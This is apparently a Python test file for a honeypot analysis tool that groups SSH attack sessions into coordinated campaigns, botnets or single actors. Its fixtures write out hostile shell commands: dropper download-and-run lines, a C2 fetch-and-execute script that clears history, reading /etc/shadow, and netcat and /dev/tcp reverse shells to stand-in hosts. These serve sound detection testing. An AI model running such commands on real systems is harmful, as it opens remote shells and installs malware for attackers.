"""Each detector on a crafted window: what must link, what must not, and what the evidence says."""

from __future__ import annotations

import random

import numpy as np

from coord_core.analysis.normalise import profile_commands
from coord_core.analysis.temporal import synchronisation
from coord_core.contracts.campaigns import AnalysisResult, Verdict
from coord_core.contracts.sessions import AttackSession
from coord_core.pipeline.analyze import analyze_sessions
from tests.analysis.builders import DROPPER, DROPPER_SHA, TOP_PASSWORDS, background, random_ip, session


def _campaign_ips(result: AnalysisResult, *, coincidental: bool = False) -> list[list[str]]:
    return [
        sorted(c.source_ips)
        for c in result.campaigns
        if coincidental or c.verdict is not Verdict.COINCIDENTAL
    ]


def _ips_of(sessions: list[AttackSession]) -> list[str]:
    return sorted({s.src_ip for s in sessions})


def test_common_hassh_and_top_passwords_never_link() -> None:
    rng = random.Random(1)
    window = background(rng, 40)
    result = analyze_sessions(window, {})
    assert _campaign_ips(result) == []
    # Whatever was grouped was judged coincidental: no claim of coordination.
    assert all(c.verdict is Verdict.COINCIDENTAL for c in result.campaigns)


def test_shared_dropper_botnet_links_without_shared_timing() -> None:
    rng = random.Random(2)
    bots = [random_ip(rng) for _ in range(8)]
    botnet = [
        session(
            ip,
            rng.uniform(0, 86_000),  # spread over a day: no shared timing
            logins=[("root", rng.choice(TOP_PASSWORDS))],
            success=True,
            commands=[f"cd /tmp; wget {DROPPER}; chmod +x x86; ./x86 {rng.randint(1, 99999)}"],
            downloads=[(DROPPER, DROPPER_SHA)],
        )
        for ip in bots
    ]
    result = analyze_sessions(botnet + background(rng, 30, span_s=86_000), {})
    campaigns = [c for c in result.campaigns if c.verdict is not Verdict.COINCIDENTAL]
    assert [sorted(c.source_ips) for c in campaigns] == [sorted(bots)]
    (campaign,) = campaigns
    assert campaign.verdict is Verdict.COORDINATED_CAMPAIGN
    artefacts = next(e for e in campaign.evidence if e.factor == "shared_artefacts")
    shared = {v["value"] for v in artefacts.statistic["shared_values"]}
    assert DROPPER_SHA in shared and "203.0.113.77" in shared
    assert campaign.signature  # the artefacts identify the campaign across intervals


RULES = ("{w}", "{w}123", "{W}!", "{w}2024", "{w}@123", "{r}", "{w}1234")


def rule_expanded(words: list[str]) -> list[str]:
    """An ordered dictionary as a cracking tool expands it: every rule applied to each base word."""
    return [rule.format(w=w, W=w.capitalize(), r=w[::-1]) for w in words for rule in RULES]


def test_stealthy_distributed_brute_force_is_found_as_a_dictionary_partition() -> None:
    rng = random.Random(3)
    wordlist = rule_expanded(
        [f"{w}{rng.randint(10, 99)}" for w in ("orion", "kestrel", "marble", "tundra", "quasar", "lumen")]
    )
    members = [random_ip(rng) for _ in range(14)]
    campaign = []
    for i, ip in enumerate(members):  # consecutive slices of <= 3 entries, one per source
        tried = wordlist[3 * i : 3 * i + 3]
        campaign.append(session(ip, 600 + 900 * i, logins=[("admin", p) for p in tried]))
    # Independent low-attempt guessers with the same commonest client, each a few one-off passwords.
    noise = [
        session(
            random_ip(rng),
            rng.uniform(0, 14_000),
            logins=[("root", f"{rng.getrandbits(30):x}") for _ in range(rng.randint(1, 3))],
        )
        for _ in range(40)
    ]
    result = analyze_sessions(campaign + noise + background(rng, 60), {})
    found = [c for c in result.campaigns if set(c.source_ips) & set(members)]
    assert [sorted(c.source_ips) for c in found] == [sorted(members)]
    (group,) = found
    assert group.verdict is Verdict.COORDINATED_CAMPAIGN
    evidence = next(e for e in group.evidence if e.factor == "dictionary_partition")
    assert evidence.statistic["p_value"] < 1e-6
    # The noise guessers share the client and the pattern "few rare guesses" but walk no list.
    assert not any(set(c.source_ips) & {s.src_ip for s in noise} for c in result.campaigns)


def test_one_uncommon_password_tried_by_many_sources_links_them() -> None:
    rng = random.Random(9)
    bots = [random_ip(rng) for _ in range(9)]
    botnet = [session(ip, rng.uniform(0, 80_000), logins=[("root", "345gs5662d34")]) for ip in bots]
    result = analyze_sessions(botnet + background(rng, 80, span_s=80_000), {})
    found = [c for c in result.campaigns if c.verdict is not Verdict.COINCIDENTAL]
    assert [sorted(c.source_ips) for c in found] == [sorted(bots)]
    assert any(e.factor == "shared_credential" for e in found[0].evidence)


def test_slices_of_one_rule_expanded_list_link_through_shared_base_words() -> None:
    rng = random.Random(4)
    words = ["solana", "validator", "phantom"]
    expanded = [f"{w}{suffix}" for w in words for suffix in ("123", "@2024", "!", "321", "2025", "_sol")]
    members = [random_ip(rng) for _ in range(6)]
    campaign = []
    for i, ip in enumerate(members):
        tried = expanded[3 * i : 3 * i + 3]  # disjoint slices: no password is tried twice
        campaign.append(session(ip, 300 + 90 * i, logins=[("sol", p) for p in tried]))
    result = analyze_sessions(campaign + background(rng, 40), {})
    linked = [sorted(c.source_ips) for c in result.campaigns if set(c.source_ips) & set(members)]
    # Each base word spans two consecutive slices: the chain covers all six sources.
    assert linked == [sorted(members)]


def test_permutation_p_value_small_for_synchronised_large_for_shuffled() -> None:
    rng = np.random.default_rng(7)
    window = np.sort(rng.uniform(0, 86_400, size=2000))
    synced = 40_000 + rng.uniform(0, 120, size=30)
    p_sync, _, _ = synchronisation(synced, np.sort(np.concatenate([window, synced])), rng, 999, 400)
    random_group = rng.choice(window, size=30, replace=False)
    p_random, _, _ = synchronisation(random_group, window, np.random.default_rng(8), 999, 400)
    assert p_sync <= 0.005
    assert p_random > 0.05


def test_rotation_within_one_24_is_a_single_actor() -> None:
    rng = random.Random(5)
    ips = [f"198.51.100.{k}" for k in (10, 11, 23, 47)]
    rotation: list[AttackSession] = []
    passwords = rule_expanded(["vesper7", "cobalt41", "ironwood", "saffron9", "glacier3", "obsidian"])
    cursor = 0
    for i, ip in enumerate(ips):
        for k in range(5):  # each address used for a while, then the next one continues the list
            start = 1000 + i * 900 + k * 150
            tried = passwords[cursor : cursor + 2]
            cursor += 2
            works = k == 4  # the last guess on each address works; the operator looks around
            rotation.append(
                session(
                    ip,
                    start,
                    logins=[("oracle", p) for p in tried],
                    success=works,
                    commands=["sudo -l", "ls -la /root/.ssh/", "cat /etc/shadow | head -n 3"]
                    if works
                    else [],
                    client="SSH-2.0-paramiko_2.11.0",
                    hassh="e" * 32,
                    key=k,
                )
            )
    result = analyze_sessions(rotation + background(rng, 40), {})
    found = [c for c in result.campaigns if set(c.source_ips) & set(ips)]
    assert [sorted(c.source_ips) for c in found] == [sorted(ips)]
    assert found[0].verdict is Verdict.SINGLE_ACTOR_MULTI_SOURCE
    infra = next(e for e in found[0].evidence if e.factor == "infrastructure")
    assert infra.statistic["prefixes_24"] == 1 and infra.statistic["shared"] is True


def test_research_scanner_is_labelled_with_its_list_and_kept_out_of_campaigns() -> None:
    rng = random.Random(6)
    censys = [
        session("167.94.146.48", 100 + 60 * k, client="SSH-2.0-Censys", hassh="c" * 32, key=k)
        for k in range(3)
    ]
    shodan_like = [
        session(ip, 200, commands=[f"wget {DROPPER}"], downloads=[(DROPPER, DROPPER_SHA)])
        for ip in ("167.94.146.49", "8.8.4.4")
    ]
    result = analyze_sessions(censys + shodan_like + background(rng, 10), {})
    scanners = {s.source_ip: s.lists for s in result.benign_scanners}
    assert scanners["167.94.146.48"] == ["Censys IP Ranges Used for Scanning"]
    assert "167.94.146.49" in scanners
    in_campaigns = {ip for c in result.campaigns for ip in c.source_ips}
    assert not in_campaigns & set(scanners)
    profile = next(p for p in result.sources if p.ip == "167.94.146.48")
    assert profile.scanner_lists == ["Censys IP Ranges Used for Scanning"]


def test_same_public_exploit_script_with_different_c2_stays_two_campaigns() -> None:
    rng = random.Random(8)
    script = [
        "cd /tmp || cd /var/run || cd /mnt",
        "wget http://{c2}/ohshit.sh; chmod 777 ohshit.sh; sh ohshit.sh",
        "tftp {c2} -c get ohshit2.sh; chmod 777 ohshit2.sh; sh ohshit2.sh",
        "rm -rf ohshit.sh ohshit2.sh; history -c",
    ]
    actors = {
        "45.95.147.10": ["91.92.242.1", "5.181.80.7", "185.225.74.9"],
        "62.210.77.3": ["103.1.2.3", "41.77.8.9", "177.54.3.2"],
    }
    sessions = []
    for c2, ips in actors.items():
        for ip in ips:
            cmds = [line.format(c2=c2) for line in script]
            sessions.append(
                session(ip, rng.uniform(0, 3000), logins=[("root", "123456")], success=True, commands=cmds)
            )
    result = analyze_sessions(sessions + background(rng, 30), {})
    groups = sorted(_campaign_ips(result))
    assert groups == sorted(sorted(ips) for ips in actors.values())


def test_template_abstracts_variable_parts_and_keeps_artefacts() -> None:
    a = profile_commands(
        ("cd /tmp; wget http://1.2.3.4/a8Xk2q; chmod +x a8Xk2q; ./a8Xk2q 4412", 'echo "root:Jk29dk"|chpasswd')
    )
    b = profile_commands(
        ("cd /tmp; wget http://9.9.9.9/Q7pL0z; chmod +x Q7pL0z; ./Q7pL0z 81", 'echo "root:aa0912"|chpasswd')
    )
    assert a.template == b.template
    assert a.hosts == ("1.2.3.4",) and b.hosts == ("9.9.9.9",)
    assert a.urls == ("http://1.2.3.4/a8Xk2q",)
    bare = profile_commands(("nc evil.example.com 4444 -e /bin/sh", "bash -i >& /dev/tcp/7.7.7.7/9001 0>&1"))
    assert bare.hosts == ("7.7.7.7", "evil.example.com")
    assert "evil.example.com" not in " ".join(bare.template)


def test_the_same_actor_in_consecutive_intervals_keeps_a_signature_feature() -> None:
    """Campaign identity across intervals joins occurrences that share a signature feature."""
    rng = random.Random(14)
    bots = [random_ip(rng) for _ in range(12)]
    hours = []
    for hour in range(2):
        sessions = [
            session(
                ip,
                hour * 3600 + rng.uniform(0, 3500),
                logins=[("root", "123456")],
                success=True,
                commands=[f"cd /tmp; wget {DROPPER}; chmod +x x86; ./x86"],
                downloads=[(DROPPER, DROPPER_SHA)],
            )
            for ip in bots[hour * 6 : hour * 6 + 6]  # new addresses each hour
        ]
        result = analyze_sessions(sessions + background(rng, 20, span_s=3600), {})
        (campaign,) = [c for c in result.campaigns if c.verdict is not Verdict.COINCIDENTAL]
        hours.append(set(campaign.signature))
    assert hours[0] & hours[1]
